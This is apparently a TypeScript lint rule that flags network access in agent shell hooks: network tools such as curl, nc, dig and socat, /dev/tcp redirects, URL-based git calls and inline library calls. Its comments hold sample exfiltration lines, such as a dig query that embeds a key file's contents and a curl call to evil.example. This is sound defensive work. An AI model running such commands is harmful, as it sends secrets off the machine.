import { own } from '../../src/records.js';
import { defineRule } from '../../src/engine/rule.js';
import { commandBase, INLINE_PROGRAM_OPTIONS, inlineProgramWords, nodesOfType, positionalArgs } from '../../src/shell/analysis.js';
import { everyCommand } from '../../src/engine/command-rule.js';
import { takesNextWord, type PlainCommand } from '../../src/shell/commands.js';
import { isNested, nestedRedirects } from '../../src/shell/nested.js';
import { RSYNC_TRANSPORT } from '../../src/shell/option-scripts.js';

interface Options {
  /** Hosts a hook may reach with `curl`/`wget` or git by URL (e.g. `localhost`); every URL of the call must be on the list. */
  allowedHosts?: string[];
}

/** Clients that always talk to another host. `nc -l` (listening) is command-nc-listen's. */
const NETWORK_TOOLS = new Set([
  'curl',
  'wget',
  'ssh',
  'scp',
  'sftp',
  'telnet',
  'ftp',
  'tftp',
  'nc',
  'ncat',
  'netcat',
  'socat',
  'http',
  'https',
  'aria2c',
  'lftp',
  // A DNS query carries data out in the name it asks for (`dig "$(cat key).x.example"`).
  'dig',
  'nslookup',
  'host',
  'wget2',
  'xh',
  'xhs',
  'curlie',
  'rclone',
]);
/** Library calls that open a connection, as inline programs of those interpreters write them. */
const NETWORK_API =
  /\b(?:urllib|requests\.(?:get|post|put|patch|delete|head|request|Session)|http\.client|httpx|aiohttp|socket\.(?:socket|create_connection)|ftplib|smtplib|paramiko|fetch\s*\(|require\(\s*['"](?:node:)?(?:https?|http2|net|tls|dgram)['"]\s*\)|axios|IO::Socket|LWP|HTTP::Tiny|Net::(?:HTTP|FTP|SMTP)|open-uri|TCPSocket|URI\.open|curl_init|fsockopen)/;
const URL_TOOLS = new Set(['curl', 'wget', 'http', 'https', 'aria2c']);
/**
 * Options of curl and wget that take a value: `local` ones a file, a header,
 * data or a number, never a host (`curl -o out.json localhost/x`); `other` ones
 * one that can send the call elsewhere (a proxy, a URL, a config or input
 * file, wget's `-e`), whose value counts as a host.
 */
const VALUE_OPTIONS: Record<string, { local: readonly string[]; other: readonly string[] }> = {
  curl: {
    local: [
      ...['-A', '-b', '-c', '-C', '-d', '-D', '-e', '-E', '-F', '-H', '-m', '-o', '-r', '-T', '-u', '-U', '-w', '-X', '-y', '-Y', '-z'],
      ...['--user-agent', '--cookie', '--cookie-jar', '--continue-at', '--data', '--data-binary', '--data-raw', '--data-urlencode'],
      ...['--json', '--dump-header', '--referer', '--cert', '--form', '--header', '--max-time', '--connect-timeout', '--output'],
      ...['--range', '--upload-file', '--user', '--proxy-user', '--write-out', '--request', '--speed-time', '--speed-limit'],
      ...['--time-cond', '--retry'],
    ],
    other: ['-K', '-P', '-Q', '-t', '-x', '--config', '--ftp-port', '--quote', '--telnet-option', '--proxy', '--preproxy', '--url'],
  },
  wget: {
    local: [
      ...['-o', '-a', '-O', '-t', '-T', '-w', '-Q', '-P', '-U', '-l', '-A', '-R', '-D', '-I', '-X'],
      ...['--output-file', '--append-output', '--output-document', '--tries', '--timeout', '--wait', '--quota', '--directory-prefix'],
      ...['--user-agent', '--level', '--accept', '--reject', '--domains', '--include-directories', '--exclude-directories'],
    ],
    other: ['-e', '-i', '-B', '--execute', '--input-file', '--base'],
  },
};
/** `rsync user@host:path`, `rsync host::module`, `rsync rsync://…` — a remote side. */
const REMOTE_RSYNC = /^(?:rsync:\/\/|[^/\s:]+::?)/;

/**
 * A hook runs unattended with the agent's credentials; a network client in it
 * can send the task, the memory or the workspace anywhere, and its latency
 * eats into the 5-second hook timeout. Talk to other agents through
 * `/eventbus` and `/sqlite-memory` instead.
 */
export default defineRule<Options>({
  id: 'network-access',
  meta: {
    description:
      'A network client (`curl`, `wget`, `ssh`, `nc`, `dig`, remote `rsync`, `git clone`/`push` to a URL, …) or a `/dev/tcp` redirect in a hook.',
    severity: 'warning',
    category: 'runtime',
    securitySeverity: 5.0,
  },
  messages: {
    tool: 'Unexpected network access with `{{tool}}` in a hook: it can send data off the machine and stalls on a slow host. Coordinate through `/eventbus` or `/sqlite-memory`.',
    devTcp: 'Unexpected network access through `{{path}}` in a hook: bash opens a connection to that host.',
    inline:
      'Unexpected network access from an inline `{{tool}}` program (`{{api}}`) in a hook: it can send data off the machine and stalls on a slow host. Coordinate through `/eventbus` or `/sqlite-memory`.',
  },
  optionsSchema: {
    type: 'object',
    properties: { allowedHosts: { type: 'array', items: { type: 'string' } } },
    additionalProperties: false,
  },
  defaultOptions: { allowedHosts: [] },
  checkScript(context) {
    const allowed = new Set((context.options.allowedHosts ?? []).map((h) => h.toLowerCase()));
    // `rsync -e 'ssh -p 2222'`: the remote shell is the rsync's own connection, judged as the rsync.
    for (const command of everyCommand(context).filter((c) => !isNested(c) || c.via !== RSYNC_TRANSPORT)) {
      let tool = commandBase(command);
      if (!tool) continue;
      const api = own(INLINE_PROGRAM_OPTIONS, tool) ? inlineNetworkApi(command) : undefined;
      if (api) {
        context.report({ messageId: 'inline', data: { tool, api }, range: context.range(command.start, command.end) });
        continue;
      }
      if (tool === 'git') {
        const remote = gitRemoteCall(command);
        if (!remote || allowed.has(remote.host)) continue;
        tool = remote.tool;
      } else if (tool === 'openssl') {
        // Only `openssl s_client` connects; the other subcommands work on local files.
        if (command.args[0]?.value !== 's_client') continue;
        tool = 'openssl s_client';
      } else if (NETWORK_TOOLS.has(tool)) {
        if ((tool === 'nc' || tool === 'ncat' || tool === 'netcat') && listens(command)) continue;
        if (URL_TOOLS.has(tool) && allowed.size > 0 && onlyAllowedHosts(command, tool, allowed)) continue;
      } else if (tool !== 'rsync' || !positionalArgs(command).some((a) => a.value !== undefined && REMOTE_RSYNC.test(a.value))) {
        continue;
      }
      context.report({ messageId: 'tool', data: { tool }, range: context.range(command.start, command.end) });
    }
    const redirects = nodesOfType(context.tree.rootNode, ['file_redirect']).flatMap((redirect) => {
      const destination = redirect.childForFieldName('destination');
      return destination ? [{ text: destination.text, start: destination.startIndex, end: destination.endIndex }] : [];
    });
    // `bash -c 'echo x > /dev/tcp/h/80'`: the inner shell opens the connection.
    redirects.push(...nestedRedirects(context.tree, context.commands, context.hook.text));
    for (const destination of redirects) {
      const path = destination.text.replace(/^["']|["']$/g, '');
      if (/^\/dev\/(tcp|udp)\//.test(path)) {
        context.report({ messageId: 'devTcp', data: { path }, range: context.range(destination.start, destination.end) });
      }
    }
  },
});

/** The network call of the program an interpreter is given inline (after `-c`/`-e`) or as a here-document (`python3 - <<EOF`). */
function inlineNetworkApi(command: PlainCommand): string | undefined {
  const programs = [...command.heredocs, ...inlineProgramWords(command).map((word) => word.value ?? word.text)];
  for (const program of programs) {
    const match = NETWORK_API.exec(program);
    if (match) return match[0].replace(/\s+/g, '');
  }
  return undefined;
}

/** git's subcommands that talk to a remote repository. */
const GIT_REMOTE = new Set(['clone', 'fetch', 'pull', 'push', 'ls-remote']);
/** git's own options before the subcommand that take the next word (`git -C dir push`). */
const GIT_VALUE_OPTIONS = new Set(['-C', '-c', '--git-dir', '--work-tree', '--namespace', '--exec-path', '--config-env']);

/**
 * `git clone URL`, `git push URL`, … with the host of the URL: a repository
 * the hook names by its address sends to or fetches from a place chosen in the
 * hook. The configured remote (`git push`, `git pull origin main`) is git's
 * ordinary work and is not reported (README: Not reported).
 */
function gitRemoteCall(command: PlainCommand): { tool: string; host: string } | undefined {
  const args = command.args;
  let i = 0;
  while (i < args.length && args[i]!.value?.startsWith('-')) i += GIT_VALUE_OPTIONS.has(args[i]!.value!) ? 2 : 1;
  const subcommand = args[i]?.value;
  if (subcommand === undefined || !GIT_REMOTE.has(subcommand)) return undefined;
  // `https://host/…`, `ssh://user@host/…`, `git://host/…` (not `file:///…`), and scp's `user@host:path`;
  // any word after the subcommand (`git clone --depth 1 URL`), since no option value or refspec looks like one.
  for (const arg of args.slice(i + 1)) {
    const where = arg.value;
    const host =
      where === undefined
        ? undefined
        : (/^[a-z][a-z0-9+.-]*:\/\/(?:[^/@]*@)?([^/:]+)/i.exec(where) ?? /^[^/@:\s]+@([^/:\s]+):/.exec(where))?.[1];
    if (host !== undefined) return { tool: `git ${subcommand}`, host: host.toLowerCase() };
  }
  return undefined;
}

function listens(command: PlainCommand): boolean {
  return command.args.some((a) => a.value === '--listen' || (a.value !== undefined && /^-[A-Za-z]*l/.test(a.value)));
}

function onlyAllowedHosts(command: PlainCommand, tool: string, allowed: Set<string>): boolean {
  const options = own(VALUE_OPTIONS, tool);
  const hosts = options ? callHosts(command, options) : urlHosts(command);
  return hosts !== undefined && hosts.length > 0 && hosts.every((h) => allowed.has(h));
}

/**
 * The hosts curl or wget reaches: each word that is not an option or a local
 * option's value is a URL, with or without a scheme (`curl localhost evil.example/x`
 * fetches both). Undefined when a word's value is known only at run time.
 */
function callHosts(command: PlainCommand, options: { local: readonly string[]; other: readonly string[] }): string[] | undefined {
  const all = [...options.local, ...options.other];
  const hosts: string[] = [];
  const args = command.args;
  for (let i = 0; i < args.length; i++) {
    const value = args[i]!.value;
    if (value === undefined) return undefined;
    if (value.startsWith('-') && value.length > 1) {
      // Skipped when the next word is a local option's value, not another's (`--proxy`, or `-x` first in `-xo`).
      if (takesNextWord(value, all) && !takesNextWord(value, options.other)) i++;
      continue;
    }
    hosts.push(/^(?:[a-z][a-z0-9+.-]*:\/\/)?(?:[^/?#\s@]*@)?(\[[^\]]*\]|[^/:?#\s]*)/i.exec(value)![1]!.toLowerCase());
  }
  return hosts;
}

function urlHosts(command: PlainCommand): string[] {
  return command.args.flatMap((a) => {
    // URLs only: `-o out.json` or a header is not a host.
    const match =
      a.value === undefined
        ? null
        : /^(?:[a-z][a-z0-9+.-]*:\/\/([^/?#\s@]+@)?([^/:?#\s]+)|(localhost|\d{1,3}(?:\.\d{1,3}){3}))(?::\d+)?(?:[/?#]|$)/i.exec(a.value);
    return match ? [(match[2] ?? match[3])!.toLowerCase()] : [];
  });
}
